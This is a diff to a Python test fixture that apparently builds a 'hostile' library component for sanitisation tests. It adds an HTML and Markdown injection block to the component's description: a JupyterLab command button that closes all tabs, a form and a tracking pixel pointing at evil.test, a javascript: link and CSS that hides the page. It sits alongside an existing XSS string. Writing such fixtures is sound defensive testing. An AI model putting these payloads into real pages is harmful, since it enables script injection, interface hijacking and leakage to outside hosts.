@@ -3,9 +3,13 @@
 from __future__ import annotations
 
 import json
+from typing import TYPE_CHECKING
 
 from spikex_lab.catalog import Component as Entry
 from spikex_lab.catalog import ComponentSpec
+
+if TYPE_CHECKING:
+    from spikex_lab.store import Store
 
 EVIL = (
     "</td><script>harm()</script><img src=x onerror=harm()><a id=MathJax>"
@@ -67,3 +71,24 @@ def hostile() -> Entry:
         ComponentSpec.parse(spec, where="hostile"),
         files={name: text.encode() for name, text in files.items()},
     )
+
+
+ACTING = b"""
+
+<button data-commandlinker-command="application:close-all">press</button>
+<form action="https://evil.test/"><input name="a"></form> <style>body { display: none }</style>
+
+![picture](https://evil.test/pixel.png) [link](javascript:harm()) <p id="jp-main-dock-panel">x</p>
+"""
+
+
+def keep(store: Store) -> None:
+    """Keep the component as a draft of the store's person, with what acts in its description."""
+    from spikex_lab.api import shelf
+
+    entry = hostile()
+    files = {name: entry.file(name) or b"" for name in ("diagram.svg", "description.md")}
+    files["description.md"] += ACTING
+    spec = entry.spec.to_dict()
+    objects = {name: store.objects.put_bytes(data) for name, data in files.items()}
+    store.library.keep(spec, shelf.line(spec, EVIL, "draft"), objects)
